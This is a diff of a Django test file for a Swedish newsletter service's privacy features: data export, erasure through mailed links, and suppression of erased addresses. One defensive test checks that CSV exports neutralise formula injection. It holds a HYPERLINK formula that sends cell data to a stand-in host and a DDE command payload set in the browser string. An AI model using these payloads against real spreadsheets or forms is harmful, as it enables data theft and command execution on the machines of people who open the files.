@@ -1,4 +1,8 @@
-"""Privacy rights: download my data, erase me, and what erasure leaves behind."""
+"""Privacy rights: download my data, erase me, and what erasure leaves behind.
+
+Both go through a one-time link mailed to the address (see test_privacy_links.py for the
+attacks on it); these tests take that path and check what it does.
+"""
 
 import csv
 import io
@@ -6,6 +10,7 @@ import json
 import zipfile
 
 import pytest
+from django.conf import settings
 from django.contrib import admin
 from django.contrib.messages.storage.fallback import FallbackStorage
 from django.core import mail
@@ -28,7 +33,13 @@ from subscribers.selectors import subscribers_mailable
 from subscribers.services import RequestOrigin
 from subscribers.validation import email_hash
 from tests.factories import organisation_make, segment_make, subscriber_make
-from tests.selfservice.links import path_from_text, preferences_path, unsubscribe_path
+from tests.selfservice.links import (
+    path_from_text,
+    post_committed,
+    preferences_path,
+    privacy_link_request,
+    unsubscribe_path,
+)
 
 pytestmark = pytest.mark.django_db
 
@@ -37,7 +48,8 @@ pytestmark = pytest.mark.django_db
 def reader(client):
     cache.clear()
     segment = segment_make(slug="nyheter", name="Nyheter", public=True)
-    client.post(
+    post_committed(
+        client,
         "/prenumerera/",
         {
             "name": "Maja Ek",
@@ -57,8 +69,18 @@ def reader(client):
     return Subscriber.objects.get(email="maja.ek@jarfalla.se")
 
 
+def export_download(client, reader, file_format: str, **extra):
+    link = privacy_link_request(client, reader, "export")
+    return post_committed(client, link, {"file_format": file_format}, **extra)
+
+
+def erase_through_link(client, subscriber, **extra):
+    link = privacy_link_request(client, subscriber, "erase")
+    return post_committed(client, link, **extra)
+
+
 def test_it_exports_everything_including_the_consent_log_as_json(client, reader):
-    response = client.post(preferences_path(reader) + "mina-uppgifter.json")
+    response = export_download(client, reader, "json", REMOTE_ADDR="203.0.113.9")
 
     assert response.status_code == 200
     assert response["Content-Disposition"].endswith('.json"')
@@ -67,16 +89,20 @@ def test_it_exports_everything_including_the_consent_log_as_json(client, reader)
     assert export["subscriber"]["organisation_given"] == "Järfälla bibliotek"
     assert export["segments"] == [{"slug": "nyheter", "name": "Nyheter"}]
     actions = [event["action"] for event in export["consent_events"]]
-    assert actions == ["subscribe", "confirm", "export"]
+    assert actions == ["subscribe", "confirm", "export_request", "export"]
     assert export["consent_events"][0]["ip_address"] == "198.51.100.7"
-    assert export["consent_events"][0]["privacy_text_version"] == "2026-11-25"
+    assert export["consent_events"][-1]["ip_address"] == "203.0.113.9"
+    assert [request["kind"] for request in export["privacy_requests"]] == ["export"]
+    assert export["consent_events"][0]["privacy_text_version"] == settings.PRIVACY_TEXT_VERSION
     assert export["deliveries"] == []
 
 
-def test_it_exports_the_same_as_csv(client, reader):
-    response = client.post(preferences_path(reader) + "mina-uppgifter.csv")
+def test_it_exports_the_same_as_csv_for_swedish_excel(client, reader):
+    response = export_download(client, reader, "csv")
 
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    content = response.content.decode()
+    assert content.startswith("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(content.removeprefix("\ufeff")), delimiter=";"))
     assert response["Content-Type"].startswith("text/csv")
     assert {"section": "subscriber", "row": "", "field": "city", "value": "Järfälla"} in rows
     consent_actions = [
@@ -84,17 +110,47 @@ def test_it_exports_the_same_as_csv(client, reader):
         for row in rows
         if row["section"] == "consent_events" and row["field"] == "action"
     ]
-    assert consent_actions == ["subscribe", "confirm", "export"]
+    assert consent_actions == ["subscribe", "confirm", "export_request", "export"]
 
 
-def test_it_refuses_an_export_by_get(client, reader):
-    assert client.get(preferences_path(reader) + "mina-uppgifter.json").status_code == 405
+def test_it_keeps_formulas_in_the_csv_export_as_text(client):
+    # Everything in a sign-up is typed by whoever signs up, the browser string included.
+    hostile_name = '=HYPERLINK("http://example.invalid/?"&A1;"Klicka")'
+    hostile_browser = "@SUM(1+9)*cmd|' /C calc'!A0"
+    post_committed(
+        client,
+        "/prenumerera/",
+        {
+            "name": hostile_name,
+            "email": "formel@example.se",
+            "organisation": "+46 8 123 45 67",
+            "channel": "email",
+            "language": "sv",
+        },
+        HTTP_USER_AGENT=hostile_browser,
+    )
+    client.post(path_from_text(mail.outbox[-1].body, "/prenumerera/bekrafta/"))
+    subscriber = Subscriber.objects.get(email="formel@example.se")
+
+    response = export_download(client, subscriber, "csv")
+
+    content = response.content.decode().removeprefix("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(content), delimiter=";"))
+    cells = {(row["section"], row["row"], row["field"]): row["value"] for row in rows}
+    assert cells[("subscriber", "", "name")] == "'" + hostile_name
+    assert cells[("subscriber", "", "organisation_given")] == "'+46 8 123 45 67"
+    assert cells[("consent_events", "1", "user_agent")] == "'" + hostile_browser
+    formula_start = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula_start)]
 
 
-def test_it_asks_before_erasing(client, reader):
-    response = client.get(preferences_path(reader) + "radera/")
+def test_it_asks_before_erasing_when_the_link_is_opened(client, reader):
+    link = privacy_link_request(client, reader, "erase")
+
+    response = client.get(link)
 
     assert response.status_code == 200
+    assert "Ja, radera mina uppgifter" in response.content.decode()
     assert Subscriber.objects.get(pk=reader.pk).status == SubscriberStatus.ACTIVE
 
 
@@ -102,7 +158,7 @@ def test_it_erases_the_person_but_keeps_the_row_and_the_hash(client, reader):
     old_preferences, old_unsubscribe = preferences_path(reader), unsubscribe_path(reader)
     address_hash = reader.email_hash
 
-    response = client.post(old_preferences + "radera/")
+    response = erase_through_link(client, reader, REMOTE_ADDR="203.0.113.9", HTTP_USER_AGENT="Edge")
 
     assert response.status_code == 200
     erased = Subscriber.objects.get(pk=reader.pk)
@@ -113,20 +169,24 @@ def test_it_erases_the_person_but_keeps_the_row_and_the_hash(client, reader):
     assert erased.email_hash == address_hash
     suppression = Suppression.objects.get(email_hash=address_hash)
     assert (suppression.reason, suppression.email) == (SuppressionReason.ERASED, "")
-    events = ConsentEvent.objects.filter(subscriber=erased).order_by("id")
-    assert [event.action for event in events][-1] == ConsentAction.ERASE
+    events = list(ConsentEvent.objects.filter(subscriber=erased).order_by("id"))
+    erase_event = events.pop()
+    assert (erase_event.action, erase_event.source) == (ConsentAction.ERASE, ConsentSource.EMAIL)
+    # Who had the person erased is the one detail kept, as for every other event.
+    assert (erase_event.ip_address, erase_event.user_agent) == ("203.0.113.9", "Edge")
     assert not any(event.ip_address or event.user_agent for event in events)
-    assert "Riddarplatsen" not in json.dumps([event.detail for event in events])
+    assert "Riddarplatsen" not in json.dumps([event.detail for event in [*events, erase_event]])
     assert Subscriber.objects.count() == 1
     assert client.get(old_preferences).status_code == 400
     assert client.post(old_unsubscribe).status_code == 400
 
 
 def test_it_keeps_an_erased_address_out_until_a_fresh_double_opt_in(client, reader):
-    client.post(preferences_path(reader) + "radera/")
+    erase_through_link(client, reader)
     assert address_suppressed(email="Maja.Ek@jarfalla.se")
 
-    client.post(
+    post_committed(
+        client,
         "/prenumerera/",
         {"name": "Maja Ek", "email": "maja.ek@jarfalla.se", "channel": "email", "language": "sv"},
     )
@@ -192,9 +252,9 @@ def test_it_keeps_the_organisation_link_so_counts_per_organisation_stay_right(cl
     library = organisation_make(name="Vallentuna bibliotek", municipality="Vallentuna")
     member = subscriber_make(organisation=library)
 
-    client.post(preferences_path(member) + "radera/")
+    erase_through_link(client, member)
 
-    assert library.subscribers.count() == 1
+    assert library.subscribers.get().status == SubscriberStatus.ERASED
 
 
 def test_it_keeps_a_staff_block_through_erasure_and_never_mails_a_blocked_address(client):
@@ -202,7 +262,8 @@ def test_it_keeps_a_staff_block_through_erasure_and_never_mails_a_blocked_addres
     Suppression.objects.create(email=blocked.email, reason=SuppressionReason.MANUAL)
 
     subscriber_erase(subscriber=blocked, origin=RequestOrigin(), source=ConsentSource.ADMIN)
-    client.post(
+    post_committed(
+        client,
         "/prenumerera/",
         {"name": "Någon", "email": "spärrad@example.se", "channel": "email", "language": "sv"},
     )
